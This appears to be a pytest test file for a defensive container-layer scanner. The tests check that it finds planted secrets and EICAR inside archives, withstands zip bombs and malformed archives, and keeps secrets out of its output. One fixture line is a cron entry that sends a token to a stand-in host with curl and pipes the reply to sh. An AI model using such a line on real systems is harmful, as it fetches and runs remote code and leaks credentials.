"""The module for content: windows, archives, budgets, redaction, slow rules."""

from __future__ import annotations

import asyncio
import gzip
import hashlib
import io
import json
import subprocess
import sys
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import asdict
from pathlib import Path

import pytest

from sandbox.scanners.content import search as searching
from sandbox.scanners.content.archives import MAX_MEMBERS
from sandbox.scanners.content.engine import Engine, Rules, compile_rules
from sandbox.scanners.content.search import ContentSearch
from sandbox.scanners.facts import Entry, Facts, IncompleteError
from tests.kit import planted
from tests.kit.sources import ROOT
from tests.kit.zips import nameless


@pytest.fixture(scope="module")
def rules() -> Rules:
    return compile_rules()


@pytest.fixture
def search(rules: Rules) -> ContentSearch:
    return ContentSearch(Engine(rules), rules.digest)


def entry(path: str, size: int) -> Entry:
    return Entry(path=path, kind="file", size_bytes=size, mode=0o100644, uid=0, gid=0)


def looked_at(search: ContentSearch, path: str, content: bytes) -> Facts:
    assert search.wants(entry(path, len(content)))
    return search.look(entry(path, len(content)), io.BytesIO(content))


def packed(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return made.getvalue()


def test_a_zip_with_an_entry_without_a_name_is_incomplete(search: ContentSearch) -> None:
    facts = looked_at(search, "srv/a.zip", nameless(packed({"a": b"x"})))
    assert facts.incomplete == ("it is no good zip file: File name in directory '' and header b'a' differ.",)


@pytest.mark.parametrize(
    "at",
    [
        0,
        100,
        searching.WINDOW_BYTES - 20,
        searching.WINDOW_BYTES - searching.OVERLAP_BYTES - 3,
        searching.WINDOW_BYTES - searching.OVERLAP_BYTES,
        searching.WINDOW_BYTES,
        2 * searching.WINDOW_BYTES - 7,
    ],
)
def test_a_secret_is_told_once_wherever_it_lies_in_a_large_file(search: ContentSearch, at: int) -> None:
    token = planted.token("ghp_").encode()
    content = bytearray(b"." * (2 * searching.WINDOW_BYTES + 1000))
    content[at : at + len(token)] = token
    facts = looked_at(search, "opt/data", bytes(content))
    assert [thing.rule for thing in facts.things] == ["ST-SECRET-GITHUB-TOKEN"]
    assert facts.incomplete == ()
    assert hashlib.md5(content).hexdigest() in facts.things[0].digests


def test_a_sparse_file_is_searched_to_its_end(search: ContentSearch, tmp_path: Path) -> None:
    reasons: list[str] = []
    with open(tmp_path / "sparse", "w+b") as file:
        file.truncate(200_000_000)
        file.seek(100_000_000)
        file.write(planted.token("ghp_").encode())
        file.seek(0)
        found = [thing.rule for thing in search._things(file, "sparse", "", reasons)]
    assert found == ["ST-SECRET-GITHUB-TOKEN"]
    assert reasons == []


@pytest.mark.parametrize(
    ("name", "pack", "inside"),
    [
        ("eicar.com.gz", gzip.compress, "eicar.com"),
        ("a.zip", lambda raw: packed({"sub/eicar.com": raw}), "sub/eicar.com"),
        ("a.jar", lambda raw: packed({"x": raw}, zipfile.ZIP_STORED), "x"),
        ("two.gz", lambda raw: gzip.compress(b"first") + gzip.compress(raw) + b"\0\0", "two"),
    ],
)
def test_archives_are_opened_one_level_deep(
    search: ContentSearch, name: str, pack: Callable[[bytes], bytes], inside: str
) -> None:
    raw = planted.eicar().encode()
    facts = looked_at(search, f"srv/{name}", pack(raw))
    told = {(thing.rule, thing.path) for thing in facts.things}
    # What is only stored is seen from outside as well.
    assert told - {("ST-MALWARE-EICAR", "")} == {("ST-MALWARE-EICAR", inside)}
    assert facts.incomplete == ()
    twice = looked_at(search, f"srv/{name}", pack(pack(raw)))
    assert all(thing.rule == "ST-MALWARE-EICAR" for thing in twice.things)


def test_a_tar_is_searched_as_it_is(search: ContentSearch) -> None:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w:gz") as archive:
        info = tarfile.TarInfo("root/.ssh/id_rsa")
        key = planted.private_key().encode()
        info.size = len(key)
        archive.addfile(info, io.BytesIO(key))
    facts = looked_at(search, "srv/backup.tar.gz", made.getvalue())
    assert [(thing.rule, thing.path) for thing in facts.things] == [("ST-SECRET-PRIVATE-KEY", "backup.tar")]


def _bomb() -> bytes:
    return gzip.compress(b"." * 3_000_000)


def _lzma() -> bytes:
    return packed({"a": b"content"}, zipfile.ZIP_LZMA)


def _lying() -> bytes:
    raw = bytearray(packed({"a": b"content" * 100}))
    raw[-12:-10] = (MAX_MEMBERS + 1).to_bytes(2, "little")
    return bytes(raw)


def _wrong_sum() -> bytes:
    raw = bytearray(packed({"a": b"content" * 100}, zipfile.ZIP_STORED))
    raw[40] ^= 1
    return bytes(raw)


@pytest.mark.parametrize(
    ("make", "reason"),
    [
        (_bomb, "holds more than the 1000000 bytes"),
        (lambda: packed({"bomb": b"." * 3_000_000}), "holds more than the 1000000 bytes"),
        (lambda: gzip.compress(b"content" * 1000)[:-20], "ends before its end"),
        (lambda: b"\x1f\x8b\x08\0garbage-garbage", "no good gzip"),
        (lambda: packed({"a": b"b" * 100})[:-30], "ends before its end"),
        (lambda: b"PK\x03\x04" + b"." * 60, "ends before its end"),
        (_lzma, "in a way that is not opened"),
        (_lying, "more than 50000 members"),
        (_wrong_sum, "no good zip"),
    ],
)  # fmt: skip
def test_a_hostile_archive_is_incomplete(
    rules: Rules, monkeypatch: pytest.MonkeyPatch, make: Callable[[], bytes], reason: str
) -> None:
    monkeypatch.setattr(searching, "MAX_ARCHIVE_BYTES", 1_000_000)
    search = ContentSearch(Engine(rules), rules.digest)
    (said,) = looked_at(search, "srv/archive", make()).incomplete
    assert reason in said


def test_archives_of_one_layer_have_one_budget(rules: Rules, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(searching, "MAX_ARCHIVES_BYTES", 5_000_000)
    search = ContentSearch(Engine(rules), rules.digest)
    said = [looked_at(search, "srv/a.gz", _bomb()).incomplete for _ in range(2)]
    assert said[0] == ()
    assert "the archives of this layer" in said[1][0]


def test_no_more_is_told_than_may_be(rules: Rules, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(searching, "MAX_PER_LAYER", 60)
    search = ContentSearch(Engine(rules), rules.digest)
    many = "\n".join(planted.token("ghp_", seed=seed) for seed in range(80)).encode()
    first = looked_at(search, "srv/many", many)
    assert len(first.things) == searching.MAX_PER_FILE
    assert "more in it than the 50" in first.incomplete[0]
    second = looked_at(search, "srv/more", many)
    assert len(second.things) == 10
    assert any("in one layer" in reason for reason in second.incomplete)
    assert not search.wants(entry("srv/next", 10))


def test_decoys_do_not_hide_what_comes_after_them(search: ContentSearch) -> None:
    decoys = b"AKIAIOSFODNN7" + b"EXAMPLE\n"
    facts = looked_at(search, "srv/x", decoys * 500 + planted.token("ghp_").encode())
    assert [(thing.rule, thing.line) for thing in facts.things] == [("ST-SECRET-GITHUB-TOKEN", 501)]
    assert facts.incomplete == ()
    flooded = looked_at(search, "srv/x", decoys * 1500)
    assert "matches 1000 times and more" in flooded.incomplete[0]


def test_a_rule_that_is_slow_on_a_file_ends_by_its_timeout(tmp_path: Path) -> None:
    (tmp_path / "slow.yar").write_text(
        "rule Slow { condition: filesize == 7777"
        " and for all i in (0..1000000000) : (uint8(i % filesize) == 46) }"
    )
    search = ContentSearch(Engine(compile_rules(tmp_path), timeout_seconds=1), "")
    slow = b"." * 7777
    for _ in range(searching.MAX_UNFINISHED):
        assert search.wants(entry("srv/x", 7777))
        facts = looked_at(search, "srv/x", slow)
        assert "a rule took longer than" in facts.incomplete[0]
        # Others are searched as before.
    assert "too slow for this layer" in facts.incomplete[1]
    assert not search.wants(entry("srv/x", 7777))


def test_no_output_has_a_secret(search: ContentSearch) -> None:
    text = [(examples.path, text) for examples in planted.secrets().values() for text in examples.true]
    text.append(
        (
            "srv/cron",
            f"*/5 * * * * root curl -H 'x: {planted.token('ghp_')}' http://198.51.100.7/x | " + "sh\n",
        )
    )
    told = ""
    for path, one in text:
        facts = looked_at(search, path, one.encode("latin-1"))
        assert facts.things
        told += json.dumps([asdict(thing) for thing in facts.things], ensure_ascii=False)
    for _, one in text:
        pieces = {one[at : at + 7] for at in range(len(one) - 6)}
        words = {piece for piece in pieces if any(each.isdigit() for each in piece) and piece.isalnum()}
        assert [piece for piece in words if piece in told] == []


def test_a_worker_without_the_engine_says_so_once_a_layer() -> None:
    search = ContentSearch(Engine(Rules(b"", "none")), "none")
    with pytest.raises(IncompleteError, match="there is no yara-x"):
        search.look(entry("etc/x", 4), io.BytesIO(b"text"))
    assert not search.wants(entry("etc/y", 4))
    with pytest.raises(IncompleteError, match="there is no yara-x"):
        search.search_text(b"text", "configuration:env X")


async def test_any_thread_may_search(search: ContentSearch) -> None:
    token = planted.token("ghp_").encode()
    for _ in range(2):
        found = [await asyncio.to_thread(search.search_text, token, ""), search.search_text(token, "")]
        assert [[thing.rule for thing, _ in one] for one in found] == [["ST-SECRET-GITHUB-TOKEN"]] * 2


def test_other_rules_are_another_version(rules: Rules) -> None:
    search = ContentSearch(Engine(rules), rules.digest)
    assert search.version == ContentSearch(Engine(rules), rules.digest).version
    assert search.version != ContentSearch(Engine(rules), "other").version


CONFINED = """
import io, sys, os
from sandbox import bpf, syscalls as kernel
from sandbox.images import confine
from sandbox.scanners.content.engine import Engine, compile_rules
from sandbox.scanners.content.search import ContentSearch
from sandbox.scanners.facts import Entry
search = ContentSearch(Engine(compile_rules()), "")
if child := os.fork():
    sys.exit(os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]))
import resource
resource.setrlimit(resource.RLIMIT_AS, (768 * 1024 * 1024,) * 2)
kernel.prctl(kernel.PR_SET_NO_NEW_PRIVS, 1)
bpf.install(bpf.pack(confine.filter_program(bpf.this_machine(), confine.READER_CALLS)))
content = sys.argv[1].encode()
things = search.look(Entry("x", "file", len(content), 0o100644, 0, 0), io.BytesIO(content)).things
os.write(1, things[0].rule.encode())
os._exit(0)
"""


def test_it_searches_in_the_confined_child() -> None:
    # The engine starts a thread with its first search, within the limits of the child that unpacks layers.
    ended = subprocess.run(
        [sys.executable, "-c", CONFINED, planted.token("ghp_")],
        cwd=ROOT, capture_output=True, text=True, check=False, timeout=120,
    )  # fmt: skip
    assert (ended.returncode, ended.stdout) == (0, "ST-SECRET-GITHUB-TOKEN"), ended.stderr
